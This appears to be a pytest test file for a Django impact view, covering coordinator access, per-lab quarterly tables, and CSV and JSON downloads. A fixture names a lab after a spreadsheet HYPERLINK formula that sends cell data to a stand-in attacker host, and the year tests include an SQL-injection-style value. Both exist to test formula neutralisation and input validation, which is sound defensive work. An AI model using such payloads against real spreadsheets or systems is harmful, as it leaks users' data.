"""The impact view for coordinators: who may see it, its tables, and the year's CSV and JSON downloads."""

from __future__ import annotations

import csv
import io

import pytest

from tests.events.test_impact import held, mirrored, reported

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


@pytest.fixture
def year_2025(lab, remote_lab):
    reported(held(lab, 2), attendees=12, target_groups_reached=["older-people"], staircase_step=4)
    held(lab, 8)
    remote_lab.name = EVIL
    remote_lab.save()
    mirrored(remote_lab, 5, attendees=40, staircase_step=2, target_groups_reached=["without-internet-access"])


@pytest.fixture
def coordinator(client, person):
    client.force_login(person("koordination", "coordinator"))
    return client


@pytest.mark.parametrize("path", ["/network/impact", "/network/impact.csv", "/network/impact.json"])
def test_only_coordinators_and_node_administrators_see_the_figures(client, node, person, lab, path):
    assert client.get(path).status_code == 302  # to the login
    client.force_login(person("eigen", "lab-editor", lab=lab))
    assert client.get(path).status_code == 403
    client.force_login(person("verwaltung", "node-admin"))
    assert client.get(path).status_code == 200
    client.force_login(person("koordination", "coordinator"))
    assert client.get(path).status_code == 200


def test_the_page_shows_each_labs_quarters_with_charts_and_tables(coordinator, year_2025, lab):
    response = coordinator.get("/network/impact?year=2025", **EN)
    page = response.content.decode()
    assert response.status_code == 200
    assert 'id="chart-impact-events-title">Events per lab and quarter' in page
    assert 'role="img" aria-labelledby="chart-impact-vulnerable-title chart-impact-vulnerable-desc"' in page
    assert '<th scope="rowgroup" rowspan="4">Testlabor Teststadt (Teststadt)</th>' in page
    assert "Older people: 1" in page and "step 4: 1" in page
    assert "&lt;=HYPERLINK" not in page and "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page
    assert 'href="/network/impact.csv?year=2025"' in page and 'href="/network/impact.json?year=2025"' in page


def test_the_csv_has_a_row_per_lab_and_quarter_and_no_cell_runs_as_a_formula(coordinator, year_2025, lab):
    response = coordinator.get("/network/impact.csv?year=2025", **EN)
    assert response["Content-Disposition"] == 'attachment; filename="impact-2025.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    mirrored_rows = [row for row in rows if row["lab_iri"].startswith("http://127.0.0.1:8999/")]
    assert [row["lab"] for row in mirrored_rows] == ["'" + EVIL] * 4 and mirrored_rows[0]["city"] == "Fernstadt"
    own = [row for row in rows if row["lab_iri"] == lab.iri]
    assert [(row["quarter"], row["events"], row["closing_reports"], row["attendees"]) for row in own] == [
        ("1", "1", "1", "12"), ("2", "0", "0", "0"), ("3", "1", "0", "0"), ("4", "0", "0", "0")]
    assert own[0]["reached_older-people"] == "1" and own[0]["step_4"] == "1"
    year = rows[-1]
    assert (year["lab"], year["quarter"], year["events"], year["attendees"]) == ("All labs", "", "3", "52")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


def test_the_json_gives_the_year_by_lab_quarter_and_the_vulnerable_groups(coordinator, year_2025, lab):
    document = coordinator.get("/network/impact.json?year=2025").json()
    assert document["year"] == 2025 and document["total"]["events"] == 3
    own = next(entry for entry in document["labs"] if entry["lab"] == lab.iri)
    assert own["quarters"][0]["staircase"]["4"] == 1 and own["quarters"][0]["target_groups_reached"]["older-people"] == 1
    shares = {entry["group"]: entry for entry in document["vulnerable_groups"]}
    assert shares["older-people"]["year"] == 50 and shares["without-internet-access"]["quarters"]["Q2"] == 100
    assert shares["older-people"]["quarters"]["Q3"] is None


@pytest.mark.parametrize("year", ["zwanzig", "1999", "2101", "2025; DROP", "-2025"])
def test_a_wrong_year_is_refused_saying_which_years_are_meant(coordinator, node, year):
    for path in ("/network/impact", "/network/impact.csv", "/network/impact.json"):
        response = coordinator.get(path, {"year": year}, **EN)
        assert response.status_code == 400 and "Give a year from 2000 to 2100" in response.content.decode()


def test_the_network_page_links_the_impact_view_for_coordinators_only(client, node, person, lab):
    assert "/network/impact" not in client.get("/network/").content.decode()
    client.force_login(person("koordination", "coordinator"))
    assert 'href="/network/impact"' in client.get("/network/").content.decode()
